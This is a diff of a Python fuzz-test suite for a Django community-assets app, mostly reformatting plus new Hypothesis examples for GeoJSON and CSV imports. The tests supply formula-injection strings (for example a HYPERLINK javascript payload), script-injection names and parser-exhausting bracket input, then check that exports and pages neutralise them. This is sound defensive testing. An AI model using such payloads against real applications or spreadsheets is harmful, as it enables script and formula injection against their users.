-@example(file=("fuzz.geojson", b"[" * 100_000 + b"]" * 100_000), kind="ward", valid_from="",
-         mode="")
-@example(file=("fuzz.geojson", json.dumps({"type": "FeatureCollection", "features": [{
-    "type": "Feature", "properties": {"WD13CD": "E050000012345", "WD13NM": "Long code"},
-    "geometry": square(-1.66, 54.80, -1.60, 54.83)}]}).encode()),
-    kind="ward", valid_from="", mode="")
+@given(
+    file=geojson_files(),
+    kind=st.sampled_from(("council", "ward", "lsoa")),
+    valid_from=st.sampled_from(("", "", "2013-05-02", "2013-02-30", "soon", "99999-01-01")),
+    mode=MODES,
+)
+@example(
+    file=("fuzz.geojson", b'{"type": "FeatureCollection", "features": "abc"}'),
+    kind="ward",
+    valid_from="",
+    mode="",
+)
+@example(
+    file=("fuzz.geojson", b'{"type": "FeatureCollection", "features": [1, 2]}'),
+    kind="ward",
+    valid_from="",
+    mode="",
+)
+@example(
+    file=(
+        "fuzz.geojson",
+        json.dumps(
+            {
+                "type": "FeatureCollection",
+                "features": [
+                    {
+                        "type": "Feature",
+                        "properties": {"WD13CD": "E05000001", "WD13NM": "West"},
+                        "geometry": {"type": "Polygon"},
+                    }
+                ],
+            }
+        ).encode(),
+    ),
+    kind="ward",
+    valid_from="",
+    mode="",
+)
+@example(
+    file=(
+        "fuzz.geojson",
+        json.dumps(
+            {
+                "type": "FeatureCollection",
+                "features": [
+                    {
+                        "type": "Feature",
+                        "properties": {"WD13CD": "E05000001", "WD13NM": "West"},
+                        "geometry": {"type": "Nonsense", "coordinates": [1]},
+                    }
+                ],
+            }
+        ).encode(),
+    ),
+    kind="ward",
+    valid_from="",
+    mode="",
+)
+@example(
+    file=(
+        "fuzz.geojson",
+        json.dumps(
+            {
+                "type": "FeatureCollection",
+                "features": [
+                    {
+                        "type": "Feature",
+                        "properties": {
+                            "LAD24CD": "E06000047",
+                            "LAD22CD": "E06000047",
+                            "LAD24NM": "\ud800\x00",
+                        },
+                        "geometry": square(-1.66, 54.80, -1.60, 54.83),
+                    }
+                ],
+            }
+        ).encode(),
+    ),
+    kind="council",
+    valid_from="",
+    mode="",
+)
+@example(
+    file=("fuzz.geojson", b"[" * 100_000 + b"]" * 100_000), kind="ward", valid_from="", mode=""
+)
+@example(
+    file=(
+        "fuzz.geojson",
+        json.dumps(
+            {
+                "type": "FeatureCollection",
+                "features": [
+                    {
+                        "type": "Feature",
+                        "properties": {"WD13CD": "E050000012345", "WD13NM": "Long code"},
+                        "geometry": square(-1.66, 54.80, -1.60, 54.83),
+                    }
+                ],
+            }
+        ).encode(),
+    ),
+    kind="ward",
+    valid_from="",
+    mode="",
+)
 def test_boundaries(areas, file, kind, valid_from, mode):
     with rolled_back(), written(file) as path:
-        import_and_check("import_boundaries", path, "--kind", kind, "--valid-from",
-                         valid_from, mode=mode)
+        import_and_check(
+            "import_boundaries", path, "--kind", kind, "--valid-from", valid_from, mode=mode
+        )
 
 
 # A council's list of assets of community value -------------------------------------------
 
+
 @FUZZ
-@given(file=table_files(ACV, ACV_ROWS, suffixes=(".csv", ".tsv", ".xlsx"), aliases=HEADINGS),
-       mode=MODES)
-@example(file=("fuzz.csv", b"reference,name,decision,decision-date,latitude,longitude\n"
-                           b"A-1,Inn,Listed,2020-12-14,91.5,181.5\n"), mode="")
+@given(
+    file=table_files(ACV, ACV_ROWS, suffixes=(".csv", ".tsv", ".xlsx"), aliases=HEADINGS),
+    mode=MODES,
+)
+@example(
+    file=(
+        "fuzz.csv",
+        b"reference,name,decision,decision-date,latitude,longitude\n"
+        b"A-1,Inn,Listed,2020-12-14,91.5,181.5\n",
+    ),
+    mode="",
+)
 def test_acv_register(areas, file, mode):
     with rolled_back(), written(file) as path:
         import_and_check("import_acv_register", path, "--council", "E06000047", mode=mode)
@@ -619,8 +1006,14 @@ def test_an_unknown_council_is_a_command_error(areas, tmp_path):
     path = tmp_path / "acv.csv"
     path.write_text("reference,name,decision,decision-date\nA-1,Inn,Listed,2020-12-14\n")
     with pytest.raises(CommandError, match="no council"):
-        call_command("import_acv_register", str(path), "--council", "<script>",
-                     stdout=io.StringIO(), stderr=io.StringIO())
+        call_command(
+            "import_acv_register",
+            str(path),
+            "--council",
+            "<script>",
+            stdout=io.StringIO(),
+            stderr=io.StringIO(),
+        )
     assert not ListEntry.objects.exists()
 
 
@@ -628,8 +1021,12 @@ def test_an_unknown_council_is_a_command_error(areas, tmp_path):
 
 ATTACKS = st.one_of(
     st.sampled_from((*FORMULAS, "Pub " + SCRIPT, '=HYPERLINK("javascript:alert(1)")')),
-    st.tuples(st.sampled_from("=+-@"), st.text(st.characters(
-        codec="utf-8", exclude_categories=["Cc", "Cs"]), min_size=1, max_size=20)).map("".join),
+    st.tuples(
+        st.sampled_from("=+-@"),
+        st.text(
+            st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]), min_size=1, max_size=20
+        ),
+    ).map("".join),
 )
 
 
@@ -656,32 +1053,68 @@ def import_attack(attack):
     """The attack as a place's name, address and operator; as an ACV's name, nominating
     group, interested group and notes; and as a ward's name."""
     rows = io.StringIO()
-    csv.writer(rows).writerows([
-        ["source_ref", "name", "category", "address", "operator", "postcode", "closed"],
-        ["h1", attack, "pub", attack, attack, "DH7 6LQ", "2019"],
-        ["h2", "The Old " + SCRIPT, "library", "Front Street", "", "DH7 6LQ", ""],
-    ])
-    import_text("import_assets", "places.csv", rows.getvalue(), "--format", "generic",
-                "--source", "fuzz")
+    csv.writer(rows).writerows(
+        [
+            ["source_ref", "name", "category", "address", "operator", "postcode", "closed"],
+            ["h1", attack, "pub", attack, attack, "DH7 6LQ", "2019"],
+            ["h2", "The Old " + SCRIPT, "library", "Front Street", "", "DH7 6LQ", ""],
+        ]
+    )
+    import_text(
+        "import_assets", "places.csv", rows.getvalue(), "--format", "generic", "--source", "fuzz"
+    )
     rows = io.StringIO()
-    nominated, listed, notice = (datetime.date.today() - datetime.timedelta(days=days)
-                                 for days in (150, 100, 20))  # on the list today
-    csv.writer(rows).writerows([
-        ["reference", "name", "address-text", "nominating-group", "decision", "nomination-date",
-         "decision-date", "notification-to-sell-date", "interested-group", "notes"],
-        ["A-1", attack, "1 Front Street, Sacriston, DH7 6LQ", attack, "Listed", nominated,
-         listed, notice, attack, attack],
-    ])
+    nominated, listed, notice = (
+        datetime.date.today() - datetime.timedelta(days=days) for days in (150, 100, 20)
+    )  # on the list today
+    csv.writer(rows).writerows(
+        [
+            [
+                "reference",
+                "name",
+                "address-text",
+                "nominating-group",
+                "decision",
+                "nomination-date",
+                "decision-date",
+                "notification-to-sell-date",
+                "interested-group",
+                "notes",
+            ],
+            [
+                "A-1",
+                attack,
+                "1 Front Street, Sacriston, DH7 6LQ",
+                attack,
+                "Listed",
+                nominated,
+                listed,
+                notice,
+                attack,
+                attack,
+            ],
+        ]
+    )
     import_text("import_acv_register", "acv.csv", rows.getvalue(), "--council", "E06000047")
-    wards = {"type": "FeatureCollection", "features": [{
-        "type": "Feature", "geometry": square(-1.75, 54.75, -1.70, 54.80),
-        "properties": {"WD13CD": "E05009077", "WD13NM": attack, "LAD_CD": "E06000047"}}]}
+    wards = {
+        "type": "FeatureCollection",
+        "features": [
+            {
+                "type": "Feature",
+                "geometry": square(-1.75, 54.75, -1.70, 54.80),
+                "properties": {"WD13CD": "E05009077", "WD13NM": attack, "LAD_CD": "E06000047"},
+            }
+        ],
+    }
     import_text("import_boundaries", "wards.geojson", json.dumps(wards), "--kind", "ward")
     recompute()
 
 
-@settings(max_examples=20, deadline=None, suppress_health_check=[
-    HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+@settings(
+    max_examples=20,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
 @given(attack=ATTACKS)
 def test_exports_carry_no_formula_and_pages_no_script(client, areas, attack):
     with rolled_back():
@@ -711,8 +1144,14 @@ def test_exports_carry_no_formula_and_pages_no_script(client, areas, attack):
         assert ILLEGAL_CHARACTERS_RE.sub("", stored) in names
 
         old = Asset.objects.get(source="fuzz", source_ref="h2")
-        for url in (old.get_absolute_url(), "/acv/E06000047/", "/search/?q=Old",
-                    "/areas/E05009076/", "/areas/E05009077/", "/indicators/?kind=ward"):
+        for url in (
+            old.get_absolute_url(),
+            "/acv/E06000047/",
+            "/search/?q=Old",
+            "/areas/E05009076/",
+            "/areas/E05009077/",
+            "/indicators/?kind=ward",
+        ):
             page = client.get(url).content.decode()
             assert SCRIPT not in page, url
         assert escape("The Old " + SCRIPT) in client.get(old.get_absolute_url()).content.decode()
